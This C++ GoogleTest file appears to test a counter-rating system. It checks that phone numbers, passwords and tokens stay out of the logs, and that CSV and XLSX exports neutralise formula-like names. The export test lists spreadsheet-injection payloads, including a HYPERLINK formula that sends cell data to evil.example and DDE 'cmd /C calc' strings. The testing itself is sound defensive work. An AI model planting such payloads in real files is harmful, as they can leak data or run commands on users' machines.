// Hostile data rather than hostile connections: secrets and phone numbers
// never reach the processes' logs; names that look like spreadsheet
// formulas are neutralised in CSV and stored as text in XLSX exports.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <thread>

#include "hailong/schema/time.h"
#include "hailong/testing/http_client.h"
#include "hailong/testing/process.h"
#include "hailong/testing/wait.h"
#include "nodes.h"

namespace hailong::hostile {
namespace {

using hailong::testing::HttpRequest;
using hailong::testing::HttpResponse;
using hailong::testing::SendHttp;
using hailong::testing::TempDir;
using json = nlohmann::json;

constexpr char kPhone[] = "0987654321";
constexpr char kWrongPassword[] = "Wrong-Guess-Pw-9902";
constexpr char kWrongToken[] = "tokWRONG0123456789abcdef0123456789abcdef0123";

json Rating(const std::string& id, const std::string& counter, const std::string& channel) {
  return {{"id", id},
          {"counter", counter},
          {"template", "gia-lam-phone"},
          {"answers", {{"level", "unsatisfied"}}},
          {"at", FormatRfc3339(Clock::System()->NowMs())},
          {"channel", channel},
          {"comment", "Gọi lại cho tôi số " + std::string(kPhone)},
          {"phone", kPhone},
          {"consent", true}};
}

TEST(SecretsTest, NoPasswordTokenOrPhoneNumberInAnyLog) {
  TempDir tmp("hostile-secrets");
  HostileNodes nodes(tmp);
  Status s = nodes.Start();
  ASSERT_TRUE(s.ok()) << s.ToString();
  HttpResponse res;
  // Phone ratings: accepted, and refused ones (bad template, bad phone).
  ASSERT_TRUE(hailong::testing::HttpPost(nodes.edge_port(), "/api/v1/ratings",
                                         Rating("r1", "q1", "phone").dump(), &res)
                  .ok());
  EXPECT_EQ(res.status, 200) << res.body;
  json bad = Rating("r2", "q1", "phone");
  bad["template"] = "no-such-template";
  ASSERT_TRUE(
      hailong::testing::HttpPost(nodes.edge_port(), "/api/v1/ratings", bad.dump(), &res).ok());
  bad = Rating("r3", "q1", "phone");
  bad["phone"] = std::string(kPhone) + "x";
  ASSERT_TRUE(
      hailong::testing::HttpPost(nodes.edge_port(), "/api/v1/ratings", bad.dump(), &res).ok());
  // Over MQTT too, good and malformed.
  const std::string topic = "hailong/v1/p1/device/box-1/rating";
  for (const std::string& payload :
       {Rating("m1", "q1", "phone").dump(), "{\"phone\":\"" + std::string(kPhone) + "\",",
        Rating("m2", "bad counter!", "phone").dump()}) {
    hailong::testing::CommandResult out;
    (void)hailong::testing::RunCommand({"mosquitto_pub", "-p", std::to_string(nodes.broker_port()),
                                        "-q", "1", "-t", topic, "-m", payload},
                                       &out);
  }
  // Logins: right and wrong passwords; pushes and reads with a wrong token.
  std::string cookie;
  ASSERT_TRUE(nodes.Login(&cookie).ok());
  ASSERT_TRUE(hailong::testing::HttpPost(
                  nodes.hub_port(), "/api/v1/login",
                  json({{"name", "admin"}, {"password", kWrongPassword}}).dump(), &res)
                  .ok());
  EXPECT_EQ(res.status, 401);
  ASSERT_TRUE(hailong::testing::HttpPost(
                  nodes.hub_port(), "/api/v1/login",
                  json({{"name", kWrongPassword}, {"password", kWrongPassword}}).dump(), &res)
                  .ok());
  HttpRequest push;
  push.method = "POST";
  push.target = "/api/v1/replication/push";
  push.content_type = "application/octet-stream";
  push.body = std::string(8, '\0');
  push.headers = {{"Authorization", std::string("Bearer ") + kWrongToken},
                  {"X-Hailong-Origin", "edge-p1"}};
  ASSERT_TRUE(SendHttp("127.0.0.1", nodes.hub_port(), push, &res).ok());
  EXPECT_EQ(res.status, 401);
  HttpRequest nodes_req;
  nodes_req.target = "/api/v1/nodes";
  nodes_req.headers = {{"Authorization", std::string("Bearer ") + kWrongToken}};
  ASSERT_TRUE(SendHttp("127.0.0.1", nodes.hub_port(), nodes_req, &res).ok());
  EXPECT_EQ(res.status, 401);
  // The phone rating reaches the hub (the hub logs nothing of it either).
  ASSERT_TRUE(hailong::testing::WaitUntil(
      [&] {
        HttpRequest r;
        r.target = "/api/v1/ratings?from=2000-01-01&to=2100-01-01";
        r.headers = {{"Cookie", cookie}};
        return SendHttp("127.0.0.1", nodes.hub_port(), r, &res).ok() &&
               res.body.find(kPhone) != std::string::npos;
      },
      std::chrono::seconds(30)))
      << res.status << " " << res.body.substr(0, 300);
  nodes.Stop();
  const std::string logs = nodes.EdgeLog() + "\n" + nodes.HubLog();
  ASSERT_FALSE(logs.empty());
  for (const std::string& secret :
       {std::string(kPhone), std::string(kPhone).substr(1), std::string(kPassword),
        std::string(kWrongPassword), nodes.token(), std::string(kWrongToken), cookie}) {
    EXPECT_EQ(logs.find(secret), std::string::npos) << "'" << secret << "' is in a log:\n" << logs;
  }
}

// Posts a catalogue entry as admin (session cookie + CSRF token).
int PostCatalogue(uint16_t port, const std::string& cookie, const std::string& csrf,
                  const json& entry) {
  HttpRequest r;
  r.method = "POST";
  r.target = "/api/v1/catalogue";
  r.body = entry.dump();
  r.headers = {{"Cookie", cookie}, {"X-CSRF-Token", csrf}};
  HttpResponse res;
  if (!SendHttp("127.0.0.1", port, r, &res).ok()) return 0;
  return res.status;
}

TEST(ExportInjectionTest, FormulaLikeNamesAreTextInCsvAndXlsx) {
  TempDir tmp("hostile-export");
  HostileNodes nodes(tmp);
  Status s = nodes.Start();
  ASSERT_TRUE(s.ok()) << s.ToString();
  const std::vector<std::string> payloads = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                                             "+1+cmd|' /C calc'!A0",
                                             "-2+3+cmd|' /C calc'!A0",
                                             "@SUM(1+9)*cmd|' /C calc'!A0",
                                             "\t=1+1",
                                             "\r=1+1"};
  // Sign in and out to get a CSRF token for the writes.
  HttpResponse res;
  ASSERT_TRUE(hailong::testing::HttpPost(nodes.hub_port(), "/api/v1/login",
                                         json({{"name", "admin"}, {"password", kPassword}}).dump(),
                                         &res)
                  .ok());
  ASSERT_EQ(res.status, 200);
  const std::string cookie = res.Header("set-cookie").substr(0, res.Header("set-cookie").find(';'));
  const std::string csrf = json::parse(res.body).value("csrf_token", "");
  for (size_t i = 0; i < payloads.size(); ++i) {
    const std::string counter = "q" + std::to_string(i + 1);
    ASSERT_EQ(PostCatalogue(nodes.hub_port(), cookie, csrf,
                            {{"kind", "counter"}, {"id", counter}, {"name", payloads[i]}}),
              200);
  }
  // The catalogue reaches the edge, which then takes ratings at those counters.
  const std::string last = "\"q" + std::to_string(payloads.size()) + "\"";
  ASSERT_TRUE(hailong::testing::WaitUntil(
      [&] {
        return hailong::testing::HttpGet(nodes.edge_port(), "/api/v1/counters", &res).ok() &&
               res.body.find(last) != std::string::npos;
      },
      std::chrono::seconds(30)))
      << res.body;
  for (size_t i = 0; i < payloads.size(); ++i) {
    const std::string counter = "q" + std::to_string(i + 1);
    json rating = Rating("x" + std::to_string(i), counter, "touchscreen");
    rating.erase("phone");
    rating.erase("comment");
    // From the counter's kiosk, enrolled as a technician does it.
    HttpRequest post;
    post.method = "POST";
    post.target = "/api/v1/admin/kiosks";
    post.body = json{{"counter", counter}}.dump();
    post.headers = {{"Authorization", "Bearer " + nodes.edge_admin_token()}};
    ASSERT_TRUE(SendHttp("127.0.0.1", nodes.edge_port(), post, &res).ok());
    ASSERT_EQ(res.status, 200) << res.body;
    post.target = "/api/v1/kiosks/enroll";
    post.body = json{{"code", json::parse(res.body)["code"]}}.dump();
    post.headers.clear();
    ASSERT_TRUE(SendHttp("127.0.0.1", nodes.edge_port(), post, &res).ok());
    ASSERT_EQ(res.status, 200) << res.body;
    post.target = "/api/v1/ratings";
    post.headers = {
        {"Authorization", "Bearer " + json::parse(res.body)["token"].get<std::string>()}};
    post.body = rating.dump();
    ASSERT_TRUE(SendHttp("127.0.0.1", nodes.edge_port(), post, &res).ok());
    ASSERT_EQ(res.status, 200) << res.body;
  }
  const std::string day = VietnamDay(Clock::System()->NowMs());
  const std::string query = "?from=" + day + "&to=" + day + "&group_by=counter";
  HttpRequest get;
  get.headers = {{"Cookie", cookie}};
  ASSERT_TRUE(hailong::testing::WaitUntil(
      [&] {
        get.target = "/api/v1/report" + query;
        return SendHttp("127.0.0.1", nodes.hub_port(), get, &res).ok() && res.status == 200 &&
               json::parse(res.body, nullptr, false).value("rows", json::array()).size() >=
                   payloads.size();
      },
      std::chrono::seconds(30)))
      << res.body;
  get.target = "/api/v1/report.csv" + query;
  ASSERT_TRUE(SendHttp("127.0.0.1", nodes.hub_port(), get, &res).ok());
  ASSERT_EQ(res.status, 200);
  const std::string csv = res.body;
  for (const std::string& p : payloads) {
    // Every cell holding the name starts with a quote mark (inside the CSV
    // quoting, if any): no cell begins with = + - @ TAB or CR.
    if (p.find('"') == std::string::npos) {  // (quotes are doubled inside CSV quoting)
      EXPECT_NE(csv.find(p.substr(p.size() - 4)), std::string::npos) << p << "\n" << csv;
    }
  }
  // A cell begins after a comma or a newline, optionally after a '"'.
  for (size_t i = 0; i < csv.size(); ++i) {
    if (i != 0 && csv[i - 1] != ',' && csv[i - 1] != '\n') continue;
    size_t j = i < csv.size() && csv[i] == '"' ? i + 1 : i;
    if (j >= csv.size()) continue;
    const char c = csv[j];
    // (No figure of a report is negative, so no cell starts with '-'.)
    EXPECT_FALSE(c == '=' || c == '+' || c == '@' || c == '\t' || c == '\r' || c == '-')
        << "a cell starts with '" << c << "' at " << j << ": " << csv.substr(j, 40);
  }
  get.target = "/api/v1/report.xlsx" + query;
  ASSERT_TRUE(SendHttp("127.0.0.1", nodes.hub_port(), get, &res).ok());
  ASSERT_EQ(res.status, 200);
  const std::string xlsx = tmp.WriteFile("report.xlsx", res.body);
  hailong::testing::CommandResult sheet, strings;
  ASSERT_TRUE(
      hailong::testing::RunCommand({"unzip", "-p", xlsx, "xl/worksheets/sheet1.xml"}, &sheet).ok());
  (void)hailong::testing::RunCommand({"unzip", "-p", xlsx, "xl/sharedStrings.xml"}, &strings);
  // The only formulas are the totals row's sums; names are strings.
  for (size_t at = sheet.output.find("<f>"); at != std::string::npos;
       at = sheet.output.find("<f>", at + 1)) {
    EXPECT_EQ(sheet.output.compare(at, 7, "<f>SUM("), 0) << sheet.output.substr(at, 80);
  }
  EXPECT_NE(strings.output.find("<t>=HYPERLINK(\"http://evil.example"), std::string::npos)
      << strings.output.substr(0, 2000);
}

}  // namespace
}  // namespace hailong::hostile
